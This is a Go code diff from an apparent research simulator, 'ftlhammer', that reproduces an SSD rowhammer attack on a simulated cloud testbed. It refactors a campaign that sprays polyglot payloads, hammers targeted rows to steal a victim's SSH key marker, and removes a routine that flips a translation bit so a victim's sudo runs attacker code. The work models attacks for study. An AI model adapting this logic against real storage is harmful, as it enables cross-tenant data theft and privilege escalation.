@@ -1,15 +1,13 @@
-package core
+package attack
 
 import (
 	"bytes"
-	"errors"
 	"fmt"
 	"sort"
 
 	"ftlhammer/internal/cloud"
 	"ftlhammer/internal/ext4"
 	"ftlhammer/internal/ftl"
-	"ftlhammer/internal/nand"
 	"ftlhammer/internal/nvme"
 	"ftlhammer/internal/sim"
 )
@@ -20,20 +18,16 @@ type CampaignConfig struct {
 	SprayFiles int
 	// TargetsPerFile is the pointer fan-out of each malicious block.
 	TargetsPerFile int
-	// HammerPairs is the per-triple hammer budget per cycle (0 = four
-	// refresh windows' worth at the required rate).
-	HammerPairs int
 	// MaxCycles bounds the campaign.
 	MaxCycles int
-	// Hammer carries pattern options (sync decoys, sidedness).
-	Hammer HammerOptions
+	// Pattern is the hammer shape driven over each targeted binding.
+	// Zero Sides means the classic double-sided hammer; zero Iterations
+	// means a per-binding budget of two refresh windows' worth of reads
+	// at the required rate, every cycle.
+	Pattern Pattern
 	// TriplesPerCycle bounds how many (spray-overlapping) triples are
 	// hammered each cycle (0 = 4).
 	TriplesPerCycle int
-	// RawSprayBlocks is how many attacker-partition blocks to fill with
-	// polyglot payloads before the first cycle (0 = an eighth of the
-	// attacker partition).
-	RawSprayBlocks uint64
 	// Hunt is the content marker that ends the campaign when dumped
 	// (default: the victim's SSH key marker).
 	Hunt string
@@ -43,6 +37,8 @@ type CampaignConfig struct {
 type CampaignReport struct {
 	Cycles        int
 	SpraysCreated int
+	// HammerReads counts the reads the hammer stage actually issued on
+	// the attacker namespace (decoy and cache-eviction reads included).
 	HammerReads   uint64
 	LeaksDetected int
 	BlocksDumped  int
@@ -67,9 +63,9 @@ type Campaign struct {
 	TB  *cloud.Testbed
 	Cfg CampaignConfig
 
-	attacker *Attacker
+	hammerer *DeviceHammerer
 	sprayer  *Sprayer
-	plans    []HammerPlan
+	bindings []Binding
 	trimmed  map[ftl.LBA]bool
 }
 
@@ -84,78 +80,74 @@ func NewCampaign(tb *cloud.Testbed, cfg CampaignConfig) (*Campaign, error) {
 	if cfg.MaxCycles <= 0 {
 		cfg.MaxCycles = 10
 	}
+	if cfg.Pattern.Sides == 0 {
+		cfg.Pattern.Sides = 2
+	}
 	if cfg.TriplesPerCycle <= 0 {
 		cfg.TriplesPerCycle = 4
 	}
 	if cfg.Hunt == "" {
 		cfg.Hunt = cloud.SecretMarker
 	}
-	c := &Campaign{
+	return &Campaign{
 		TB:       tb,
 		Cfg:      cfg,
-		attacker: NewAttacker(tb.Device, tb.AttackerNS, nvme.PathDirect),
+		hammerer: &DeviceHammerer{Dev: tb.Device, NS: tb.AttackerNS, Path: nvme.PathDirect},
 		sprayer:  NewSprayer(tb.VictimFS, cloud.AttackerCred, "/home/attacker"),
-	}
-	return c, nil
+	}, nil
 }
 
-// Attacker exposes the direct-access vantage point.
-func (c *Campaign) Attacker() *Attacker { return c.attacker }
-
-// Sprayer exposes the in-victim-VM vantage point.
-func (c *Campaign) Sprayer() *Sprayer { return c.sprayer }
-
-// hammerBudget returns the per-triple pair budget.
+// hammerBudget returns the per-binding iteration budget.
 func (c *Campaign) hammerBudget() int {
-	if c.Cfg.HammerPairs > 0 {
-		return c.Cfg.HammerPairs
+	if c.Cfg.Pattern.Iterations > 0 {
+		return c.Cfg.Pattern.Iterations
 	}
 	window := c.TB.DRAM.Config().RefreshWindow.Seconds()
 	if window == 0 {
 		window = 0.064
 	}
-	return int(c.attacker.RequiredRate()*window) * 2
+	return int(RequiredRate(c.TB.Device)*window) * 2
 }
 
-// targetedPlans ranks triples by how many sprayed indirect-block
+// targetedBindings ranks bindings by how many sprayed indirect-block
 // translations their victim row holds: the attacker knows its own files'
 // block numbers (FIEMAP on its own files) and the device layout, so it
 // hammers where spraying actually landed.
-func (c *Campaign) targetedPlans() []HammerPlan {
+func (c *Campaign) targetedBindings() []Binding {
 	spray := make(map[ftl.LBA]bool, len(c.sprayer.Files()))
 	for _, sf := range c.sprayer.Files() {
 		spray[c.TB.VictimNS.StartLBA+ftl.LBA(sf.IndirectFSBlock)] = true
 	}
 	type scored struct {
-		plan  HammerPlan
+		b     Binding
 		score int
 	}
 	var sc []scored
-	for _, p := range c.plans {
+	for _, b := range c.bindings {
 		n := 0
-		for _, lineLBA := range p.VictimGlobalLBAs {
+		for _, lineLBA := range b.VictimGlobalLBAs {
 			for k := ftl.LBA(0); k < 16; k++ { // entries per 64-byte line
 				if spray[lineLBA+k] {
 					n++
 				}
 			}
 		}
-		sc = append(sc, scored{p, n})
+		sc = append(sc, scored{b, n})
 	}
 	sort.SliceStable(sc, func(i, j int) bool { return sc[i].score > sc[j].score })
-	out := make([]HammerPlan, 0, c.Cfg.TriplesPerCycle)
+	out := make([]Binding, 0, c.Cfg.TriplesPerCycle)
 	for _, s := range sc {
 		if len(out) >= c.Cfg.TriplesPerCycle {
 			break
 		}
-		out = append(out, s.plan)
+		out = append(out, s.b)
 	}
 	return out
 }
 
-// trimPlan deallocates every LBA the hammer workload will read, plus the
-// decoy, once.
-func (c *Campaign) trimPlan(plan HammerPlan) error {
+// trimBinding deallocates every LBA the hammer workload will read, plus
+// the decoy, once.
+func (c *Campaign) trimBinding(b Binding) error {
 	if c.trimmed == nil {
 		c.trimmed = make(map[ftl.LBA]bool)
 	}
@@ -166,22 +158,15 @@ func (c *Campaign) trimPlan(plan HammerPlan) error {
 		c.trimmed[lba] = true
 		return c.TB.Device.Trim(c.TB.AttackerNS, lba, nvme.PathDirect)
 	}
-	for side := 0; side < 2; side++ {
-		for _, lba := range plan.AggLBAs[side] {
-			if err := trim(lba); err != nil {
-				return err
-			}
-		}
-	}
-	for _, side := range plan.ExtraSides {
+	for _, side := range b.Sides {
 		for _, lba := range side {
 			if err := trim(lba); err != nil {
 				return err
 			}
 		}
 	}
-	if plan.HasDecoy {
-		return trim(plan.DecoyLBA)
+	if b.HasDecoy {
+		return trim(b.DecoyLBA)
 	}
 	return nil
 }
@@ -195,29 +180,25 @@ func (c *Campaign) Run() (*CampaignReport, error) {
 
 	// Offline stage: device layout analysis (§4.2 "hammering stage"
 	// preparation). Many-sided patterns need the analysis to bind extra
-	// same-bank far rows per plan.
-	sides := 2
-	if p := c.Cfg.Hammer.Pattern; p != nil && p.Sides > sides {
-		sides = p.Sides
-	}
-	plans, err := c.attacker.AnalyzeCrossPartitionSides(c.TB.VictimNS.ID, sides)
+	// same-bank far rows per binding.
+	bindings, err := Analyze(c.TB.Device, c.TB.AttackerNS, AnalyzeOptions{
+		VictimNSID: c.TB.VictimNS.ID,
+		Sides:      c.Cfg.Pattern.Sides,
+	})
 	if err != nil {
 		return rep, err
 	}
-	c.plans = plans
+	c.bindings = bindings
 
-	// Attacker-VM spray: fill the own partition with polyglot payloads —
-	// valid pointer arrays sweeping the victim filesystem AND executable
-	// content — so a redirected victim translation lands on something
-	// useful (§4.2: the paper fills 100% of the attacker partition).
-	rawCount := c.Cfg.RawSprayBlocks
-	if rawCount == 0 {
-		rawCount = c.TB.AttackerNS.NumLBAs
-	}
+	// Attacker-VM spray: fill the whole own partition with polyglot
+	// payloads — valid pointer arrays sweeping the victim filesystem AND
+	// executable content — so a redirected victim translation lands on
+	// something useful (§4.2: the paper fills 100% of the attacker
+	// partition).
 	dataStart := uint32(c.TB.VictimFS.DataStart())
 	fsSpan := uint32(c.TB.VictimNS.NumLBAs) - dataStart
 	window := uint32(0)
-	for i := uint64(0); i < rawCount; i++ {
+	for i := uint64(0); i < c.TB.AttackerNS.NumLBAs; i++ {
 		targets := make([]uint32, 512)
 		for j := range targets {
 			targets[j] = dataStart + (window+uint32(j))%fsSpan
@@ -260,7 +241,7 @@ func (c *Campaign) Run() (*CampaignReport, error) {
 			}
 			if err != nil {
 				if len(c.sprayer.Files()) == 0 {
-					return rep, fmt.Errorf("core: spray cycle %d: %w", cycle, err)
+					return rep, fmt.Errorf("attack: spray cycle %d: %w", cycle, err)
 				}
 				rep.DegradedCycles++
 			}
@@ -275,31 +256,26 @@ func (c *Campaign) Run() (*CampaignReport, error) {
 		// are trimmed first: reads of deallocated blocks skip flash and
 		// run at interface speed, the acceleration the §3 threat model
 		// calls out — polyglot-filled pages elsewhere stay intact.
-		for _, plan := range c.targetedPlans() {
-			if err := c.trimPlan(plan); err != nil {
-				return rep, fmt.Errorf("core: trim cycle %d: %w", cycle, err)
+		for _, b := range c.targetedBindings() {
+			if err := c.trimBinding(b); err != nil {
+				return rep, fmt.Errorf("attack: trim cycle %d: %w", cycle, err)
 			}
-			opts := c.Cfg.Hammer
-			opts.Pairs = budget
-			if opts.SyncDecoy && !plan.HasDecoy {
-				opts.SyncDecoy = false
+			pat := c.Cfg.Pattern
+			pat.Iterations = budget
+			if pat.NeedsDecoy() && !b.HasDecoy {
+				// Drop decoy elements rather than failing the whole cycle.
+				pat = pat.WithoutDecoys()
 			}
-			if opts.Pattern != nil && opts.Pattern.NeedsDecoy() && !plan.HasDecoy {
-				// Same downgrade for declarative patterns: drop decoy
-				// elements rather than failing the whole cycle.
-				p := opts.Pattern.WithoutDecoys()
-				opts.Pattern = &p
+			if pat.Sides > len(b.Sides) {
+				// A bank can run out of far rows to extend a binding with;
+				// clamp the pattern to the sides this binding does provide.
+				pat = pat.ClampSides(len(b.Sides))
 			}
-			if opts.Pattern != nil && opts.Pattern.Sides > plan.SideCount() {
-				// A bank can run out of far rows to extend a plan with;
-				// clamp the pattern to the sides this plan does provide.
-				p := opts.Pattern.ClampSides(plan.SideCount())
-				opts.Pattern = &p
+			reads := c.TB.AttackerNS.Stats().Reads
+			if err := c.hammerer.Hammer(b, pat); err != nil {
+				return rep, fmt.Errorf("attack: hammer cycle %d: %w", cycle, err)
 			}
-			if err := c.attacker.Hammer(plan, opts); err != nil {
-				return rep, fmt.Errorf("core: hammer cycle %d: %w", cycle, err)
-			}
-			rep.HammerReads += uint64(2 * budget)
+			rep.HammerReads += c.TB.AttackerNS.Stats().Reads - reads
 		}
 
 		// Scan stage (unprivileged, inside the victim VM).
@@ -332,86 +308,4 @@ func (c *Campaign) Run() (*CampaignReport, error) {
 	rep.FlipsInduced = c.TB.DRAM.Stats().Flips - flipsBefore
 	rep.Elapsed = c.TB.Clock.Now().Sub(start)
 	return rep, nil
-}
-
-// DemonstrateEscalation shows the §3.2 privilege-escalation consequence
-// mechanically: it locates the victim's setuid binary translation, finds a
-// polyglot-bearing physical page whose number differs from the current
-// translation by exactly one bit, and applies that single-bit corruption —
-// precisely the effect of one lucky rowhammer flip. It then has the victim
-// "execute" the binary. This is evaluation scaffolding (the probability of
-// this exact flip is what §4.3 models); it reuses the production read path
-// end to end.
-func DemonstrateEscalation(tb *cloud.Testbed) (cloud.ExecResult, error) {
-	// Victim's sudo binary: filesystem block -> global LBA -> entry.
-	f, err := tb.VictimFS.Open("/usr/bin/sudo", ext4.Cred{UID: 1000, GID: 1000}, false)
-	if err != nil {
-		return cloud.ExecResult{}, err
-	}
-	fsBlk, err := f.MapBlock(0)
-	if err != nil {
-		return cloud.ExecResult{}, err
-	}
-	global := tb.VictimNS.StartLBA + ftl.LBA(fsBlk)
-	cur := tb.FTL.PPNOf(global)
-
-	// Spray polyglots across the attacker partition in chunks until some
-	// one-bit neighbour of `cur` holds payload (the paper fills 100% of
-	// the attacker partition, §4.3: Fa = Ca).
-	payload, err := CraftPolyglot(nil, cloud.PolyglotMarker, []byte("pwned"))
-	if err != nil {
-		return cloud.ExecResult{}, err
-	}
-	total := tb.Flash.Geometry().TotalPages()
-	buf := make([]byte, tb.Device.BlockBytes())
-	findBit := func() int {
-		for bit := 0; bit < 32; bit++ {
-			cand := uint64(cur) ^ (1 << bit)
-			if cand >= total {
-				continue
-			}
-			if err := tb.Flash.Read(nand.PPN(cand), buf); err != nil {
-				continue
-			}
-			if bytes.Contains(buf, []byte(cloud.PolyglotMarker)) {
-				return bit
-			}
-		}
-		return -1
-	}
-	const chunk = 4096
-	bit := findBit()
-	for next := uint64(0); bit < 0 && next < tb.AttackerNS.NumLBAs; next += chunk {
-		end := next + chunk
-		if end > tb.AttackerNS.NumLBAs {
-			end = tb.AttackerNS.NumLBAs
-		}
-		lbas := make([]ftl.LBA, 0, end-next)
-		for i := next; i < end; i++ {
-			lbas = append(lbas, ftl.LBA(i))
-		}
-		if err := RawSpray(tb.Device, tb.AttackerNS, nvme.PathDirect, lbas, payload); err != nil {
-			return cloud.ExecResult{}, err
-		}
-		bit = findBit()
-	}
-	if bit < 0 {
-		return cloud.ExecResult{}, errors.New("core: no one-bit polyglot neighbour found")
-	}
-	// Apply the single-bit corruption to the stored translation — the
-	// exact effect of one lucky rowhammer flip.
-	addr, err := tb.FTL.EntryAddr(global)
-	if err != nil {
-		return cloud.ExecResult{}, err
-	}
-	raw := make([]byte, 4)
-	if err := tb.DRAM.Read(addr, raw); err != nil {
-		return cloud.ExecResult{}, err
-	}
-	raw[bit/8] ^= 1 << (bit % 8)
-	if err := tb.DRAM.Write(addr, raw); err != nil {
-		return cloud.ExecResult{}, err
-	}
-	// Victim runs sudo; the read path follows the corrupted translation.
-	return tb.ExecuteBinary("/usr/bin/sudo", ext4.Cred{UID: 1000, GID: 1000})
 }
